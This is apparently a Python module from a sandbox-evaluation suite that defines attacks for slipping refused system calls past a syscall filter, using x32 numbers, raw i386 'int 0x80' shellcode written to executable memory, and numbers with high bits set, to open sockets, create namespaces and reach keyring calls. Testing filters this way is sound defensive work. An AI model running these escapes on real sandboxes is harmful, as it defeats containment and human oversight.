"""System calls by another numbering, which a filter may not know."""

from evaluation.sandbox.attacks.model import Attack, AttackClass
from evaluation.sandbox.attacks.snippets import SYSCALL

_INT80 = (
    SYSCALL
    + r"""
import mmap, signal
def int80(eax, ebx=0, ecx=0, edx=0):
    area = mmap.mmap(-1, 4096, prot=7)
    code = (b"\x53\xb8" + eax.to_bytes(4, "little") + b"\xbb" + ebx.to_bytes(4, "little")
            + b"\xb9" + ecx.to_bytes(4, "little") + b"\xba" + edx.to_bytes(4, "little")
            + b"\xcd\x80\x5b\xc3")
    area.write(code)
    at = ctypes.addressof(ctypes.c_char.from_buffer(area))
    return ctypes.CFUNCTYPE(ctypes.c_int)(at)()
def in_child(*registers):
    # A filter that kills must not take the answer with it.
    try:
        pid = os.fork()
    except OSError:
        return 7 if int80(*registers) >= 0 else 8
    if pid == 0:
        os._exit(7 if int80(*registers) >= 0 else 8)
    status = os.waitpid(pid, 0)[1]
    return os.waitstatus_to_exitcode(status)
"""
)

CLASS = AttackClass(
    name="other_abi",
    aim="Make a refused system call under another number",
    weakening="no filter",
    attacks=(
        Attack(
            name="socket_of_x32",
            kind="run",
            code=SYSCALL
            + r"""
def f(facts):
    # Same architecture to a filter, other numbers: bit 30 is set.
    for family, kind in ((2, 1), (2, 2), (16, 3), (40, 1)):
        if call(0x40000000 + 41, family, kind, 0) >= 0:
            return f"ESCAPED a socket of family {family}"
    said = why()
    got = call(41, 40, 1, 0)
    return "ESCAPED a vsock socket" if got >= 0 else f"refused: {said}"
""",
        ),
        Attack(
            name="memory_and_keys_of_x32",
            kind="run",
            code=SYSCALL
            + r"""
def f(facts):
    text, said = ctypes.c_char_p, []
    for number, args in ((319, (text(b"x"), 0)), (250, (0, -3, 1)), (272, (0x10000000,)),
                         (425, (4, ctypes.create_string_buffer(120))), (521, (0, 1, 0, 0))):
        if call(0x40000000 + number, *args) >= 0:
            return f"ESCAPED call {number}"
        said.append(why())
    return f"refused: {said}"
""",
        ),
        Attack(
            name="socket_of_i386",
            kind="run",
            code=_INT80
            + r"""
def f(facts):
    code = in_child(359, 2, 1, 0)
    return "ESCAPED a socket" if code == 7 else f"refused: ended with {code}"
""",
        ),
        Attack(
            name="namespaces_of_i386",
            kind="run",
            code=_INT80
            + r"""
def f(facts):
    codes = [in_child(310, 0x10000000), in_child(288, 0, 0xFFFFFFFD, 1), in_child(26, 0, 0, 0)]
    return "ESCAPED" if 7 in codes else f"refused: ended with {codes}"
""",
        ),
        Attack(
            name="numbers_with_high_bits",
            kind="run",
            code=SYSCALL
            + r"""
def f(facts):
    said = []
    for high in (1 << 32, 1 << 63, 0xFFFFFFFF << 32):
        number = ctypes.c_ulong(high | 272).value
        if call(number - (1 << 64) if number >> 63 else number, 0x10000000) == 0:
            return f"ESCAPED {high:#x}"
        said.append(why())
        family = ctypes.c_ulong(high | 16).value  # a filter sees half of an argument
        if call(41, family - (1 << 64) if family >> 63 else family, 3, 0) >= 0:
            return "ESCAPED a netlink socket"
        said.append(why())
    return f"refused: {said}"
""",
        ),
    ),
)
